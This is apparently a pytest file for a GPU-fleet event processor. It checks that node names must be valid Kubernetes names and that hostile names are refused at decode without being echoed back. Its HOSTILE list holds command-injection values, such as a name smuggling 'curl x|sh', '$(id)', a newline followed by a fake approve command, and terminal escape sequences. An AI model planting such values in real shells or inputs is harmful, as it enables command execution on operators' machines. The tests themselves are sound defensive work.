"""A record a node or an executor sends names its node with a Kubernetes node name, a DNS-1123
subdomain (schemas.base `is_node_name`); any other name fails to decode, naming the field, and the
processor dead-letters the record (tests/streams/test_hostile_node_names.py). The name reaches a
line an operator pastes into a shell (`xidstream incidents`' approve line), Node annotations and
file names: a name like ``gpu-node-9 --key /dev/null; curl x|sh; echo`` must not get that far."""

from __future__ import annotations

import re

import orjson
import pytest
from pydantic import ValidationError

from xidstream.schemas import DecodeError, decode, decode_any, encode
from xidstream.schemas.base import NODE_NAME_PATTERN, is_node_name
from xidstream.schemas.errors import ScenarioError
from xidstream.schemas.jsonschema import render_all
from xidstream.schemas.models import Alert, RemediationCommand
from xidstream.schemas.scenario import parse_scenario
from tests.factories import one_of_each
from tests.schemas.test_limits import NODE_SENT

GOOD = ["a", "0", "gpu-node-7", "node-a", "ip-10-0-146-100.ec2.internal", "gb200-node-1.rack-3.example.com",
        "x" * 63, ".".join(["x" * 63] * 3 + ["x" * 61]), "a-b-c", "1-2.3-4"]
HOSTILE = ["gpu-node-9 --key /dev/null; curl x|sh; echo", "$(id)", "`id`", "gpu-node-9\nxidstream approve x",
           "node'a", 'node"a', "node a", "node;a", "node|a", "node&a", "node$a", "node\\a", "node>a", "-a",
           "--key=/dev/null", "Gpu-Node-7", "GPU-NODE-7", "gpu_node_7", "gpu-node-7.", ".gpu-node-7", "gpu..node",
           "gpu-node-7-", "gpu-.node", "x" * 64, ".".join(["x" * 63] * 3 + ["x" * 62]), "gpu-node-7\x1b[2J",
           "gpu‐node‐7", "gpu-nodé", "gpu-node-7\u202e", "gpu-node-7\x00", " gpu-node-7", "*", "@cluster-executor"]


def _doc(model) -> dict:
    return orjson.loads(encode(next(r for r in one_of_each() if isinstance(r, model))))


@pytest.mark.parametrize("name", GOOD)
def test_a_kubernetes_node_name_decodes_in_every_record_a_node_sends(name):
    assert is_node_name(name)
    for model in NODE_SENT:
        raw = orjson.dumps({**_doc(model), "node": name})
        assert decode(model, raw).node == name and decode_any(raw).node == name


@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
def test_any_other_node_name_is_refused_at_decode_naming_the_field(name):
    assert not is_node_name(name)
    for model in NODE_SENT:
        raw = orjson.dumps({**_doc(model), "node": name})
        for decoder in (decode_any, lambda r: decode(model, r)):
            with pytest.raises(DecodeError) as refused:
                decoder(raw)
            text = str(refused.value).split(" (first bytes:")[0]
            assert "node: " in text and ("not a Kubernetes node name" in text or "at most 253" in text), text
            # the reason does not quote the sender's name back (it reaches logs and dead letters)
            assert name not in text
        with pytest.raises(ValidationError):  # nor can one be built
            model.model_validate({**_doc(model), "node": name})


def test_records_the_processor_makes_are_not_held_to_it():
    """Alerts and commands name the node of the records they came from; an approval names
    "fleet" for a breaker reset, an enrollment ``@cluster-executor``: only what a node sends is."""
    for model in (Alert, RemediationCommand):
        assert decode_any(orjson.dumps({**_doc(model), "node": "Node_A"})).node == "Node_A"


def test_the_json_schema_says_the_same():
    for name, body in render_all().items():
        doc = orjson.loads(body)
        props = doc.get("properties", {})
        if doc["$id"] in {m.SCHEMA for m in NODE_SENT}:
            assert props["node"]["pattern"] == NODE_NAME_PATTERN and props["node"]["maxLength"] == 253, name
    pattern = re.compile(NODE_NAME_PATTERN)
    for name in GOOD:
        assert pattern.search(name)
    for name in HOSTILE:
        assert len(name) > 253 or not pattern.search(name), name


def test_a_scenario_names_its_nodes_by_kubernetes_node_names():
    doc = {"scenario": 1, "name": "s", "duration": 60, "nodes": [{"name": "gpu-node-7", "gpus": [
        {"index": 0, "uuid": "GPU-aaaa", "pci_bus_id": "00000000:01:00.0"}]}], "timeline": []}
    assert parse_scenario(doc).nodes[0].name == "gpu-node-7"
    with pytest.raises(ScenarioError, match=r"nodes\[0\] .*: name: not a Kubernetes node name"):
        parse_scenario({**doc, "nodes": [{**doc["nodes"][0], "name": "gpu-node-7; reboot"}]})
